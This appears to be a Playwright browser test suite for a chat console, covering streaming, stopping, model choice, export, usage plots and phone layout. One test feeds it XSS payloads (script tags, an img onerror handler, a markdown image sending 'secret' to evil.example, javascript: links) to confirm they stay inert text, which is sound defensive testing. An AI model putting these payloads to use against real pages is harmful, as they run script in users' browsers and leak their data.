"""The console as a new user has it: in a browser, beside a server that was just started."""

import json
import re
import time
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.console.browser.doing import answer, ask, both_widths, choose, go_to, main, menu, taken_home, until_drawn

WHOLE = re.compile(r"tokens .* in all")


@both_widths
def test_a_newcomer_gets_an_answer_with_one_click(page: Page):
    main(page).get_by_role("button", name="Show me a table").click()

    expect(answer(page)).to_contain_text("Neptune")
    expect(answer(page).get_by_text(re.compile(r"demo / demo · .* tokens"))).to_be_visible()


def test_what_was_said_stays_while_the_next_answer_comes_and_what_was_offered_goes(page: Page):
    ask(page, "/echo the first")
    expect(answer(page)).to_contain_text(WHOLE)

    ask(page, "/tokens 30 /slow 100")

    expect(answer(page, 2)).to_contain_text("tok2")
    expect(answer(page, 1)).to_contain_text("the first")
    expect(page.get_by_text("Answer again")).to_have_count(0)
    expect(page.get_by_text("Ask anything below")).to_have_count(0)
    page.get_by_role("button", name="Stop", exact=True).click()
    expect(page.get_by_text("Answer again")).to_have_count(1)


def test_hostile_words_stay_words(page: Page):
    page.on("dialog", lambda _: (_ for _ in ()).throw(AssertionError("a script has run")))

    ask(
        page,
        "/echo <script>alert(1)</script><img src=https://evil.example/a.png onerror=alert(1)>"
        " ![x](https://evil.example/?q=secret) [go](javascript:alert(1)) [and](&#106;avascript:alert(1)) $5 and $6",
    )

    expect(answer(page)).to_contain_text(WHOLE)
    expect(answer(page)).to_contain_text("<script>alert(1)</script>")
    expect(answer(page)).to_contain_text("$5 and $6")
    assert answer(page).locator("img, script").count() == 0
    assert all((link.get_attribute("href") or "").startswith("http") for link in answer(page).locator("a").all())


def test_stop_ends_an_answer_at_once_and_the_chat_goes_on_in_the_same_conversation(page: Page):
    ask(page, "/tokens 900 /slow 100")
    expect(answer(page)).to_contain_text("tok1")

    page.get_by_role("button", name="Stop", exact=True).click()

    expect(page.get_by_text("Stopped.")).to_be_visible()
    ask(page, "/echo and on it goes")
    expect(answer(page, 2)).to_contain_text(WHOLE)
    expect(page.get_by_test_id("stSidebar").get_by_role("button", name="/tokens 900")).to_have_count(1)
    expect(page.get_by_test_id("stSidebar").get_by_role("button", name="and on it goes")).to_have_count(0)


def test_another_model_answers_when_it_is_chosen(page: Page):
    choose_provider(page, "priced")
    choose(page, "Model", "demo-think-3")
    expect(page.get_by_placeholder("Ask demo-think-3")).to_be_visible()

    ask(page, "/echo from another one")

    expect(answer(page).get_by_text(re.compile(r"priced / demo-think-3 · .* tokens · \$0"))).to_be_visible()
    expect(answer(page).get_by_text("Thinking")).to_be_visible()


def test_another_bot_says_what_it_needs(page: Page):
    choose(page, "Bot", "GPTBot")

    expect(main(page).get_by_text("GPTBot is not ready").first).to_be_visible()
    expect(page.get_by_text("keys set OPENAI_API_KEY")).to_be_visible()


@both_widths
def test_a_bot_is_tried_as_on_poe(page: Page):
    menu(page, is_open=True)
    page.get_by_test_id("stSidebar").get_by_text("As on Poe").click()
    menu(page, is_open=False)
    expect(page.get_by_text("Ask me what I can do.")).to_be_visible()

    ask(page, "/echo as on Poe")

    expect(page.get_by_test_id("stChatMessage").last).to_contain_text("first word after")


@pytest.mark.parametrize("page", ["phone"], indirect=True)
def test_the_menu_shuts_when_something_was_chosen_in_it(page: Page):
    ask(page, "/echo of ants")
    expect(answer(page)).to_contain_text(WHOLE)
    sidebar = page.get_by_test_id("stSidebar")
    for _ in range(2):
        menu(page, is_open=True)
        sidebar.get_by_role("button", name="New chat").click()
        expect(sidebar).to_have_attribute("data-collapsed", "true")
        expect(page.get_by_text("Ask anything below")).to_be_visible()

        menu(page, is_open=True)
        sidebar.get_by_role("button", name="of ants").first.click()
        expect(sidebar).to_have_attribute("data-collapsed", "true")
        expect(answer(page)).to_contain_text("of ants")


@both_widths
def test_a_reload_and_the_way_back_open_the_conversation_again(page: Page):
    ask(page, "/echo of bees")
    expect(answer(page)).to_contain_text(WHOLE)
    expect(page).to_have_url(re.compile("conversation="))

    page.reload()
    expect(answer(page)).to_contain_text("of bees")
    until_drawn(page)
    menu(page, is_open=True)
    page.get_by_role("button", name="New chat").click()
    expect(page.get_by_text("Ask anything below")).to_be_visible()
    expect(page).not_to_have_url(re.compile("conversation="))
    page.go_back()

    expect(answer(page)).to_contain_text("of bees")


def test_a_conversation_is_renamed_taken_home_and_deleted(page: Page):
    ask(page, "/echo of *whales*")
    page.get_by_role("button", name="Conversation").click()
    page.get_by_label("Name", exact=True).fill("About whales")
    page.get_by_role("button", name="Rename").click()
    page.get_by_test_id("stSidebar").get_by_role("button", name="About whales").wait_for()
    files = {}
    for kind in ("Markdown", "JSON"):
        download = taken_home(page, f"Export as {kind}")
        files[download.suggested_filename] = Path(download.path()).read_text()
    page.get_by_role("button", name="Delete…").click()
    page.get_by_role("dialog").get_by_role("button", name="Delete", exact=True).click()

    expect(page.get_by_text("Ask anything below")).to_be_visible()
    expect(page.get_by_test_id("stSidebar").get_by_role("button", name="About whales")).to_have_count(0)
    assert "of *whales*" in files["About whales.md"]
    assert json.loads(files["About whales.json"])["messages"][1]["text"] == "of *whales*"


@both_widths
def test_two_answer_side_by_side(page: Page):
    go_to(page, "Compare")
    ask(page, "/tokens 20 /slow 30")
    expect(main(page).get_by_role("button", name="Stop this one")).to_have_count(2)

    expect(main(page).get_by_text(WHOLE)).to_have_count(2)

    expect(main(page).get_by_role("button", name="Stop")).to_have_count(0)
    main(page).get_by_role("button", name="Go on with this one").first.click()
    expect(page.get_by_placeholder("Ask DemoBot")).to_be_visible()
    expect(answer(page)).to_contain_text("tok19")


def test_the_plot_of_the_costs_moves(page: Page):
    ask_the_dear_one(page, "/echo once")
    go_to(page, "Usage")
    before = cost_drawn(page, more_than=0)

    go_to(page, "Chat")
    ask_the_dear_one(page, "/tokens 30")
    go_to(page, "Usage")

    assert cost_drawn(page, more_than=before) > before
    expect(main(page).get_by_text("US dollars a day")).to_be_visible()


@both_widths
def test_both_dates_can_be_read(page: Page):
    go_to(page, "Usage")

    page.get_by_test_id("stButtonGroup").get_by_text("Dates").click()

    room = page.get_by_test_id("stDateInputFieldsScroller")
    expect(room).to_be_visible()
    until_drawn(page)
    assert room.evaluate("each => each.scrollWidth <= each.clientWidth")
    choice = page.get_by_test_id("stSelectbox").first
    assert choice.evaluate("each => each.clientWidth") > 150


def choose_provider(page: Page, name: str) -> None:
    page.get_by_test_id("stSidebar").get_by_text("A model", exact=True).click()
    choose(page, "Provider", name)
    expect(main(page).get_by_role("heading", name=f"{name} / demo")).to_be_visible()


def ask_the_dear_one(page: Page, words: str) -> None:
    choose_provider(page, "priced")
    until_drawn(page)
    messages = page.get_by_test_id("stChatMessage")
    before = messages.count()
    ask(page, words)
    expect(messages).to_have_count(before + 2)
    expect(messages.last).to_contain_text(WHOLE)


def cost_drawn(page: Page, more_than: float) -> float:
    """The height of all bars together. A record is written a moment after its answer, so one may have to look again."""
    bars = page.locator('[data-testid="stVegaLiteChart"] [aria-roledescription="bar"]')
    until = time.monotonic() + 60
    while time.monotonic() < until:
        until_drawn(page)
        bars.or_(main(page).get_by_text("Nothing to show yet")).first.wait_for(state="attached")
        said = [label for bar in bars.all() if (label := bar.get_attribute("aria-label"))]
        cost = sum(float(found[1]) for label in said if (found := re.search(r"Money: \$?([\d.]+)", label)))
        if cost > more_than:
            return cost
        page.locator(".st-key-usage_anew button").first.click()
    raise AssertionError("the plot does not move")


@pytest.mark.parametrize("page", ["phone"], indirect=True)
def test_no_page_is_wider_than_a_phone(page: Page):
    for name in ("Compare", "Bots", "Providers", "Poe", "Usage", "Chat"):
        go_to(page, name)
        page.get_by_test_id("stExpandSidebarButton").wait_for()
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, name


def test_a_server_that_is_away_is_a_friendly_page(page: Page):
    sidebar = page.get_by_test_id("stSidebar")
    sidebar.get_by_text("Server: running").click()
    sidebar.get_by_label("Another address").fill("http://127.0.0.1:9")
    sidebar.get_by_label("Another address").press("Enter")

    expect(main(page).get_by_text("The server is away")).to_be_visible()
    expect(main(page).get_by_role("button", name="Try again")).to_be_visible()
